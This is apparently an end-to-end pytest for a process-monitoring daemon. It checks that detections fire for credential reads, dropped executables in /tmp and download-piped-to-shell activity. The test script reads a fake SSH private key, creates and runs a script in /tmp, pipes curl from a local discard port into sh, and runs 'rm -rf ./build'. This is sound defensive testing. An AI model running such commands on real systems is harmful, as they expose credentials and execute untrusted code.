"""Detections from REAL activity: a real logirad records real processes run as a throwaway
user, and the stored run must carry the expected detections tied to the right events."""

from __future__ import annotations

import os
import shutil
import textwrap
from collections.abc import Iterator

import pytest

from tests.e2e.e2e_support import Logira, logira_for

pytestmark = pytest.mark.bpf


@pytest.fixture
def logira(test_user, logirad) -> Iterator[Logira]:
    """`logira` as the throwaway user against the real daemon of tests/conftest.py."""
    yield from logira_for(test_user, logirad)


def test_real_agent_activity_produces_the_expected_detections(logira, test_user) -> None:
    ssh = test_user.home / ".ssh"
    had_ssh = ssh.exists()
    ssh.mkdir(mode=0o700, exist_ok=True)
    key = ssh / "id_rsa"
    key.write_text("-----BEGIN OPENSSH PRIVATE KEY-----\nfake\n")
    for p in (ssh, key):
        os.chown(p, test_user.uid, test_user.gid)
    drop = f"/tmp/lgdrop-{os.urandom(3).hex()}"
    script = textwrap.dedent(f"""
        cat ~/.ssh/id_rsa > /dev/null
        printf '#!/bin/sh\\nexit 0\\n' > {drop}
        chmod +x {drop}
        {drop}
        bash -c 'curl -s --max-time 2 http://127.0.0.1:9/x | sh'
        rm -rf ./build
        true
    """)
    try:
        res = logira("run", "--tool", "dettest", "--", "bash", "-c", script)
        assert res.returncode == 0, res.stderr
        run = logira.only_run()
    finally:
        key.unlink(missing_ok=True)
        if not had_ssh:
            shutil.rmtree(ssh, ignore_errors=True)
        if os.path.exists(drop):
            os.unlink(drop)
    by_seq = {r["seq"]: r for r in run.records}
    dets = run.of_type("detection")
    got = {d["data_json"]["rule_id"]: d for d in dets}
    for rid in (
        "cred-ssh-private-read",
        "drop-create-chmod-exec",
        "drop-chmod-x-in-tmp",
        "drop-exec-from-tmp",
        "exec-download-pipe-shell",
    ):
        assert rid in got, (rid, sorted(got))
    read = by_seq[got["cred-ssh-private-read"]["data_json"]["related_event_seq"]]
    assert (read["type"], read["data_json"]["op"], read["data_json"]["path"]) == ("file", "read", str(key))
    seqd = got["drop-create-chmod-exec"]["data_json"]
    steps = [by_seq[s] for s in seqd["steps"]]
    assert [(s["type"], s["data_json"].get("op", "")) for s in steps] == [
        ("file", "create"),
        ("file", "chmod"),
        ("exec", ""),
    ]
    # the kernel runs the #! script as `/bin/sh <script>`: the join is on the script operand
    assert steps[2]["data_json"]["argv"] == ["/bin/sh", drop]
    assert [s["data_json"].get("path") for s in steps[:2]] == [drop, drop]
    pipe = by_seq[got["exec-download-pipe-shell"]["data_json"]["related_event_seq"]]
    assert pipe["data_json"]["argv"] == ["bash", "-c", "curl -s --max-time 2 http://127.0.0.1:9/x | sh"]
    assert "exec-rm-recursive-critical" not in got  # rm -rf ./build is not a wipe
    # a detection follows its related event, and the counts reach meta.json
    assert all(d["seq"] > d["data_json"]["related_event_seq"] for d in dets)
    assert run.meta["suspicious_count"] == len(dets)
